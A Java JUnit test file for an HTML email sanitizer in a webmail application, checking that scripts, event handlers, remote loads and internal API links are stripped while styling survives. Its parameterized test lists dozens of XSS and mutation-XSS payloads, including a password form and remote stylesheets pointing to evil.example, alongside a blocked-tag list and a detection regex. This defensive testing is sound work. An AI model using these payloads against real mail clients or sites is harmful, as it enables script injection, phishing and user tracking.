package io.pennypost.web.console;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.time.Duration;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.atomic.AtomicLong;
import java.util.random.RandomGeneratorFactory;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

final class MailHtmlTest {
    private static final Set<String> NEVER_TAGS = Set.of(
            "script",
            "form",
            "input",
            "button",
            "iframe",
            "object",
            "embed",
            "base",
            "link",
            "svg",
            "math",
            "meta",
            "video",
            "template",
            "textarea",
            "select",
            "noscript",
            "frame",
            "frameset",
            "audio",
            "source");

    /// Values that load, run or lead to where mail must not lead.
    private static final String HARMFUL = "(?is).*(evil\\.example|script:|data:text|svg|url\\(|/_pennypost).*";

    private static Deadline deadline() {
        return new Deadline(() -> 0L, Duration.ofSeconds(1));
    }

    private static String cleaned(String html) throws IOException {
        var page = MailHtml.clean(html, Map.of("pic@x", "/parts/1"), false, deadline())
                .document();
        return page.substring(page.indexOf("<body>"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<img/onerror=alert(1)/src=x>",
                "<body onload=alert(1)>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\" java\nscript:alert(1)\">x</a>",
                "<a href=\"&#106;avascript&colon;alert(1)\">x</a>",
                "<a href=\"vbscript:x\">x</a>",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "<form action=https://evil.example><input name=password><button>go</button></form>",
                "<meta http-equiv=refresh content='0;url=https://evil.example'>",
                "<base href=https://evil.example/>",
                "<link rel=stylesheet href=https://evil.example/a.css>",
                "<iframe src=https://evil.example></iframe>",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<object data=https://evil.example></object><embed src=https://evil.example>",
                "<svg><script>alert(1)</script></svg><svg onload=alert(1)>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
                "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
                "<style>@import 'https://evil.example/a.css';p{background:url(https://evil.example/b)}</style>",
                "<style></style><script>alert(1)</script></style>",
                "<p style=\"background:url('https://evil.example/c')\">x</p>",
                "<img src=https://evil.example/pixel.gif width=1 height=1>",
                "<img srcset='https://evil.example/a 2x' src=//evil.example/b>",
                "<table background=https://evil.example/d><td background=//evil.example/e>x</table>",
                "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
                "<video poster=https://evil.example/v src=https://evil.example/w></video>",
                "<input type=image src=https://evil.example/i>",
                "<template><img src=x onerror=alert(1)></template>",
                "<xmp><img src=x onerror=alert(1)></xmp>",
                "<a href=/_pennypost/v1/messages>x</a><img src=/_pennypost/v1/messages>",
            })
    void nothingRunsLoadsOrSends(String html) throws IOException {
        var seen = Jsoup.parse(cleaned(html)).body();

        for (var element : seen.getAllElements()) {
            assertFalse(NEVER_TAGS.contains(element.normalName()), element.outerHtml());
            assertFalse(element.data().contains("url("), element.outerHtml());
            for (var attribute : element.attributes()) {
                assertFalse(attribute.getKey().startsWith("on"), element.outerHtml());
                boolean acts = !attribute.getKey().equals("title")
                        && !attribute.getKey().equals("alt");
                assertFalse(acts && attribute.getValue().matches(HARMFUL), element.outerHtml());
            }
        }
    }

    @Test
    void looksStay() throws IOException {
        var clean = cleaned("<html><head><style>.a{color:red}</style></head><body bgcolor=#eee style='margin:0'>"
                + "<table width=100% cellpadding=4><tr><td class=a align=center>Hi</td></tr></table></body></html>");

        assertEquals(
                "<body><style>.a{color:red;}</style><div bgcolor=\"#eee\" style=\"margin:0;\">"
                        + "<table width=\"100%\" cellpadding=\"4\"><tbody><tr><td class=\"a\" align=\"center\">Hi</td></tr></tbody>"
                        + "</table></div></body></html>",
                clean);
    }

    @Test
    void linksOpenElsewhereAndTellNothing() throws IOException {
        var clean = cleaned("<a href='https://example.com/?a=1&b=2' target=_top>x</a><a href='#top'>y</a>");

        assertTrue(
                clean.contains("<a href=\"https://example.com/?a=1&amp;b=2\" target=\"_blank\" "
                        + "rel=\"noopener noreferrer nofollow\">x</a><a href=\"#top\">y</a>"),
                clean);
    }

    @Test
    void picturesOfTheMailItselfAreShown() throws IOException {
        var clean = cleaned("<img src='cid:pic@x'><img src='CID:pic%40x'><img src='cid:other'>"
                + "<img src='data:image/png;base64,AAAA'>");

        assertTrue(
                clean.contains("<img src=\"/parts/1\"><img src=\"/parts/1\"><img>"
                        + "<img src=\"data:image/png;base64,AAAA\">"),
                clean);
    }

    @Test
    void blockedPicturesAreCounted() throws IOException {
        var html = "<img src=http://a.example/1><img src=//b.example/2><p style='background:url(https://c.example/3)'>";

        assertEquals(3, MailHtml.clean(html, Map.of(), false, deadline()).blocked());
        assertEquals(0, MailHtml.clean(html, Map.of(), true, deadline()).blocked());
    }

    @Test
    void deepNestingNeitherOverflowsNorHangs() throws IOException {
        var clean = cleaned("<div>".repeat(50_000) + "deep" + "<b><i>".repeat(20_000));

        assertTrue(clean.contains("deep"));
    }

    @Test
    void cleaningEndsAtTheDeadline() {
        var clock = new AtomicLong();
        var deadline = new Deadline(clock::incrementAndGet, Duration.ofNanos(3));

        assertThrows(
                Deadline.LimitException.class,
                () -> MailHtml.clean("<p>x</p>".repeat(100_000), Map.of(), false, deadline));
    }

    @Test
    void noMixtureOfMarkupGetsThrough() throws IOException {
        long seed = System.nanoTime();
        var random = RandomGeneratorFactory.of("L64X128MixRandom").create(seed);
        var pieces = new String[] {
            "<",
            ">",
            "</",
            "'",
            "\"",
            "script",
            "style",
            "svg",
            "math",
            "img src=x onerror=alert(1)",
            "<!--",
            "-->",
            "/",
            "title=",
            "<table>",
            "<td>",
            "<noscript>",
            "<template>",
            "]]>",
            "<![CDATA[",
            "&lt;",
            "\0",
            "<textarea>",
            "<xmp>"
        };
        for (int i = 0; i < 3_000; i++) {
            var html = new StringBuilder();
            for (int j = random.nextInt(25); j >= 0; j--) {
                html.append(pieces[random.nextInt(pieces.length)]);
            }

            var clean = cleaned(html.toString());

            var again = Jsoup.parse(clean);
            assertTrue(again.select("script,svg,math,iframe,[onerror]").isEmpty(), "seed " + seed + ": " + html);
        }
    }
}
